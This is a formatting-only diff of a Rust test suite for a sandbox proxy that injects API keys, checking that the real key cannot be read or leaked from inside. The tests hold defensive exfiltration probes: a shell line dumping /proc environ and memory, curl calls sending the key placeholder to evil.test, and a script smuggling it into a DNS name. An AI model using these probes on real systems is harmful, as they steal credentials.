@@ -16,7 +16,8 @@ fn policy(lab: &Lab) -> Value {
 
 /// Only the sandbox knows the placeholder, so a shell script sends the plan's requests with curl.
 fn curl(lab: &Lab, policy: &Value, arguments: &str) -> Outcome {
-    let script = format!("curl -sS -w '\\n%{{http_code}} %header{{x-interceptor-decision}}\\n' {arguments}");
+    let script =
+        format!("curl -sS -w '\\n%{{http_code}} %header{{x-interceptor-decision}}\\n' {arguments}");
     lab.sandbox(policy).at_origin(HOST).at_origin(OTHER).shell(&script)
 }
 
@@ -35,12 +36,14 @@ fn the_real_key_is_nowhere_in_the_sandbox() {
     Lab::test(|lab| {
         // The key may come from a file, the environment, or the policy, which the sandbox cannot
         // see.
-        for key in [json!({ "file": lab.key_file() }), json!({ "env": "REAL_KEY" }), json!(lab.key())] {
+        for key in
+            [json!({ "file": lab.key_file() }), json!({ "env": "REAL_KEY" }), json!(lab.key())]
+        {
             let mut policy = policy(lab);
             policy["credentials_v2"]["lab"]["key"] = key;
-            let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; \
-                          cat /proc/1/environ /proc/1/mem 2>&1 | head -c 1000; ls -la /proc/1/root /proc/1/fd 2>&1; \
-                          mount; cat /etc/resolv.conf; true";
+            let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; cat \
+                          /proc/1/environ /proc/1/mem 2>&1 | head -c 1000; ls -la /proc/1/root \
+                          /proc/1/fd 2>&1; mount; cat /etc/resolv.conf; true";
             let outcome = lab.sandbox(&policy).env("REAL_KEY", lab.key()).shell(script);
             // The canary oracle reads this output and the wrapper's sweep.
             assert!(outcome.success().out().contains("LAB_API_KEY="));
@@ -54,9 +57,15 @@ fn a_key_file_is_not_readable_from_inside() {
         let file = lab.key_file();
         // The policy may contain a key too, so the lab writes it like a key file.
         let policy_like = lab.secret_file("policy.json", lab.key());
-        let script = format!("id -u; cat {} 2>&1; cat {} 2>&1; true", file.display(), policy_like.display());
+        let script =
+            format!("id -u; cat {} 2>&1; cat {} 2>&1; true", file.display(), policy_like.display());
         let outcome = lab.sandbox(&policy(lab)).shell(&script);
-        assert_eq!(outcome.success().out().matches("Permission denied").count(), 2, "{}", outcome.out());
+        assert_eq!(
+            outcome.success().out().matches("Permission denied").count(),
+            2,
+            "{}",
+            outcome.out()
+        );
         assert_ne!(outcome.out().lines().next(), Some("0"), "the command runs unprivileged");
     });
 }
@@ -67,7 +76,11 @@ fn c7_c9_whatever_authentication_the_client_sends_the_origin_gets_the_real_one_a
         vec![("authorization", "Bearer sk-attacker")],
         vec![("authorization", "Bearer sk-attacker"), ("authorization", "Bearer sk-second")],
         vec![("Authorization", "Basic YTpi")],
-        vec![("x-api-key", "sk-attacker"), ("api-key", "sk-attacker"), ("x-goog-api-key", "sk-attacker")],
+        vec![
+            ("x-api-key", "sk-attacker"),
+            ("api-key", "sk-attacker"),
+            ("x-goog-api-key", "sk-attacker"),
+        ],
         vec![("proxy-authorization", "Basic YTpi")],
         vec![],
     ];
@@ -98,7 +111,11 @@ fn h9_a_connection_header_cannot_strip_the_key() {
         let plan = Plan::https(HOST, "http/1.1").ask_with(
             "GET",
             "/v1/x",
-            &[("connection", "authorization, host, x-hop"), ("x-hop", "1"), ("authorization", "Bearer own")],
+            &[
+                ("connection", "authorization, host, x-hop"),
+                ("x-hop", "1"),
+                ("authorization", "Bearer own"),
+            ],
             "",
         );
         let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
@@ -119,13 +136,19 @@ fn other_places_for_the_key() {
     Lab::test(|lab| {
         let shapes = [
             (json!({ "header": "x-billing-key", "format": "{key}" }), "x-billing-key", "{key}"),
-            (json!({ "header": "authorization", "format": "token {key}" }), "authorization", "token {key}"),
+            (
+                json!({ "header": "authorization", "format": "token {key}" }),
+                "authorization",
+                "token {key}",
+            ),
         ];
         for (index, (inject, header, value)) in shapes.into_iter().enumerate() {
             let mut policy = policy(lab);
             policy["credentials_v2"]["lab"]["inject"] = inject;
-            let reports =
-                lab.sandbox(&policy).at_origin(HOST).fetch(&Plan::https(HOST, "h2").ask("GET", "/v1/x"));
+            let reports = lab
+                .sandbox(&policy)
+                .at_origin(HOST)
+                .fetch(&Plan::https(HOST, "h2").ask("GET", "/v1/x"));
             assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
             assert_eq!(lab.seen()[index].values(header), [value.replace("{key}", lab.key())]);
         }
@@ -195,16 +218,21 @@ fn c3_a_reason_phrase_does_not_carry_the_key() {
             let head = "content-length: 0\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n";
             let answer = format!("HTTP/1.1 {status} {}\r\n{head}", lab.key());
             let origin = lab.scripted(Box::leak(answer.into_bytes().into_boxed_slice()));
-            let program = "import socket, ssl\n\
-                 s = ssl.create_default_context().wrap_socket(socket.create_connection(('HOST', 443)), server_hostname='HOST')\n\
-                 s.settimeout(10)\n\
-                 s.sendall(b'GET /ws HTTP/1.1\\r\\nhost: HOST\\r\\nconnection: Upgrade\\r\\nupgrade: websocket\\r\\n\\r\\n')\n\
-                 print(s.recv(4096).decode())\n";
+            let program = "import socket, ssl\ns = \
+                           ssl.create_default_context().wrap_socket(socket.create_connection(('\
+                           HOST', 443)), \
+                           server_hostname='HOST')\ns.settimeout(10)\ns.sendall(b'GET /ws \
+                           HTTP/1.1\\r\\nhost: HOST\\r\\nconnection: Upgrade\\r\\nupgrade: \
+                           websocket\\r\\n\\r\\n')\nprint(s.recv(4096).decode())\n";
             let outcome = lab
                 .sandbox(&policy(lab))
                 .resolve(HOST, origin.address())
                 .python(&program.replace("HOST", HOST));
-            assert!(outcome.success().out().starts_with(&format!("HTTP/1.1 {status} ")), "{}", outcome.out());
+            assert!(
+                outcome.success().out().starts_with(&format!("HTTP/1.1 {status} ")),
+                "{}",
+                outcome.out()
+            );
         });
     }
 }
@@ -213,7 +241,8 @@ fn c3_a_reason_phrase_does_not_carry_the_key() {
 fn h10_a_request_for_an_upgrade_has_no_body() {
     Lab::test(|lab| {
         let bytes = format!(
-            "GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: Upgrade\r\nupgrade: websocket\r\ncontent-length: 5\r\n\r\nhello"
+            "GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: Upgrade\r\nupgrade: \
+             websocket\r\ncontent-length: 5\r\n\r\nhello"
         );
         let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).send(
             &format!("{HOST}:443"),
@@ -232,11 +261,16 @@ fn h10_a_websocket_is_forwarded_where_a_rule_allows_its_handshake() {
         assert!(outcome.success().out().contains("over and out"), "{}", outcome.out());
         assert_eq!(lab.seen()[0].values("authorization"), [format!("Bearer {}", lab.key())]);
         let record = outcome.requests("allow")[0];
-        assert_eq!((record.protocol.as_deref(), record.status), (Some("ws"), Some(101)), "{record:?}");
+        assert_eq!(
+            (record.protocol.as_deref(), record.status),
+            (Some("ws"), Some(101)),
+            "{record:?}"
+        );
     });
     Lab::test(|lab| {
         let mut policy = policy(lab);
-        policy["credentials_v2"]["lab"]["endpoints"] = json!([{ "methods": [], "paths": ["/v1/"] }]);
+        policy["credentials_v2"]["lab"]["endpoints"] =
+            json!([{ "methods": [], "paths": ["/v1/"] }]);
         let outcome = lab.sandbox(&policy).at_origin(HOST).python(&websocket("x"));
         assert!(outcome.out().contains("403"), "{}\n{}", outcome.out(), outcome.tail());
         assert_eq!(lab.seen().len(), 0);
@@ -282,7 +316,8 @@ fn c1_a_placeholder_sent_to_another_host_is_refused_and_recorded() {
     for option in ["--http1.1", "--http2"] {
         for place in places {
             Lab::test(|lab| {
-                let outcome = curl(lab, &policy(lab), &format!("{option} {}", place.replace("OTHER", OTHER)));
+                let outcome =
+                    curl(lab, &policy(lab), &format!("{option} {}", place.replace("OTHER", OTHER)));
                 assert!(
                     outcome.success().out().contains("403 deny; reason=credential_misuse"),
                     "{place}: {}",
@@ -304,7 +339,9 @@ fn c1_a_placeholder_sent_to_a_denied_host_is_recorded_as_the_leak_that_it_is() {
         "\"https://evil.test/x?key=$LAB_API_KEY\"",
         "\"http://evil.test/x?key=$LAB_API_KEY\"",
     ];
-    for place in ["--http1.1", "--http2"].into_iter().flat_map(|option| places.map(|place| (option, place))) {
+    for place in
+        ["--http1.1", "--http2"].into_iter().flat_map(|option| places.map(|place| (option, place)))
+    {
         Lab::test(|lab| {
             let outcome = curl(lab, &policy(lab), &format!("{} {}", place.0, place.1));
             let out = outcome.success().out();
@@ -329,18 +366,28 @@ fn with_two_credentials_for_a_host_the_placeholder_selects() {
             "key": { "file": lab.secret_file("second", &second) }, "hosts": [HOST], "env": "SECOND_KEY",
             "endpoints": [{ "methods": ["GET"], "paths": ["/second"] }],
         });
-        let first =
-            curl(lab, &policy, &format!("-H \"authorization: Bearer $LAB_API_KEY\" https://{HOST}/first"));
+        let first = curl(
+            lab,
+            &policy,
+            &format!("-H \"authorization: Bearer $LAB_API_KEY\" https://{HOST}/first"),
+        );
         assert!(first.success().out().contains("\n200 "), "{}", first.out());
-        let other =
-            curl(lab, &policy, &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/second"));
+        let other = curl(
+            lab,
+            &policy,
+            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/second"),
+        );
         assert!(other.success().out().contains("\n200 "), "{}", other.out());
-        let outside =
-            curl(lab, &policy, &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/first"));
+        let outside = curl(
+            lab,
+            &policy,
+            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/first"),
+        );
         assert!(outside.out().contains("403 deny; reason=endpoint_denied"), "{}", outside.out());
         let none = curl(lab, &policy, &format!("https://{HOST}/second"));
         assert!(none.out().contains("403 deny; reason=credential_ambiguous"), "{}", none.out());
-        let keys: Vec<_> = lab.seen().iter().map(|seen| seen.values("authorization").join(",")).collect();
+        let keys: Vec<_> =
+            lab.seen().iter().map(|seen| seen.values("authorization").join(",")).collect();
         assert_eq!(keys, [format!("Bearer {}", lab.key()), format!("Bearer {second}")]);
     });
 }
@@ -363,7 +410,8 @@ fn c10_a_key_that_cannot_be_used_stops_the_start_and_is_not_printed() {
             assert!(outcome.err().contains("lab"), "{}", outcome.tail());
         }
         let mut policy = policy(lab);
-        for source in [json!({ "env": "NOT_SET_ANYWHERE" }), json!({ "file": "/nonexistent/key" })] {
+        for source in [json!({ "env": "NOT_SET_ANYWHERE" }), json!({ "file": "/nonexistent/key" })]
+        {
             policy["credentials_v2"]["lab"]["key"] = source;
             let outcome = lab.sandbox(&policy).bare().run(&["true"]);
             assert_eq!(outcome.code(), Some(125), "{}", outcome.tail());
@@ -405,19 +453,18 @@ fn h16_alt_svc_is_dropped() {
 #[test]
 fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
     // In a lookup, in the ClientHello alone, in `:authority` or `Host` alone, and with passthrough.
-    let program = "import os, socket, ssl\n\
-        name = os.environ['LAB_API_KEY'].lower() + '.leak.test'\n\
-        try: print('looked up', socket.getaddrinfo(name, 443))\n\
-        except OSError as error: print('refused')\n\
-        context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\n\
-        def ask(stream, host):\n\
-        \x20   stream.settimeout(20)\n\
-        \x20   stream.sendall(f'GET /x HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: close\\r\\n\\r\\n'.encode())\n\
-        \x20   print(stream.recv(65536).split(b'\\r\\n')[0].decode())\n\
-        def tls(): return context.wrap_socket(socket.create_connection(('192.0.2.1', 443)), server_hostname=name)\n\
-        for make in (lambda: ask(tls(), name), lambda: ask(socket.create_connection(('192.0.2.1', 80)), name)):\n\
-        \x20   try: make()\n\
-        \x20   except OSError as error: print('reset')\n";
+    let program = "import os, socket, ssl\nname = os.environ['LAB_API_KEY'].lower() + \
+                   '.leak.test'\ntry: print('looked up', socket.getaddrinfo(name, 443))\nexcept \
+                   OSError as error: print('refused')\ncontext = ssl.create_default_context(); \
+                   context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\ndef \
+                   ask(stream, host):\n\x20   stream.settimeout(20)\n\x20   stream.sendall(f'GET \
+                   /x HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: \
+                   close\\r\\n\\r\\n'.encode())\n\x20   \
+                   print(stream.recv(65536).split(b'\\r\\n')[0].decode())\ndef tls(): return \
+                   context.wrap_socket(socket.create_connection(('192.0.2.1', 443)), \
+                   server_hostname=name)\nfor make in (lambda: ask(tls(), name), lambda: \
+                   ask(socket.create_connection(('192.0.2.1', 80)), name)):\n\x20   try: \
+                   make()\n\x20   except OSError as error: print('reset')\n";
     for passthrough in [false, true] {
         Lab::test(|lab| {
             let mut policy = policy(lab);
@@ -432,12 +479,15 @@ fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
             let out = outcome.success().out();
             let said: Vec<&str> = out.lines().collect();
             assert!(
-                said.len() == 3 && said.iter().zip(expected).all(|(line, start)| line.starts_with(start)),
+                said.len() == 3
+                    && said.iter().zip(expected).all(|(line, start)| line.starts_with(start)),
                 "{}",
                 outcome.tail()
             );
-            let misuse =
-                outcome.audit.iter().filter(|record| record.reason.as_deref() == Some("credential_misuse"));
+            let misuse = outcome
+                .audit
+                .iter()
+                .filter(|record| record.reason.as_deref() == Some("credential_misuse"));
             let kinds: Vec<_> =
                 misuse.map(|record| record.kind.as_str()).filter(|kind| *kind != "dns").collect();
             assert_eq!(
@@ -446,13 +496,8 @@ fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
                 "{:#?}",
                 outcome.audit
             );
-            assert!(
-                outcome
-                    .audit
-                    .iter()
-                    .any(|record| record.kind == "dns"
-                        && record.reason.as_deref() == Some("credential_misuse"))
-            );
+            assert!(outcome.audit.iter().any(|record| record.kind == "dns"
+                && record.reason.as_deref() == Some("credential_misuse")));
             let asked = names.asked();
             assert!(!asked.iter().any(|name| name.contains("leak")), "{asked:?}");
         });
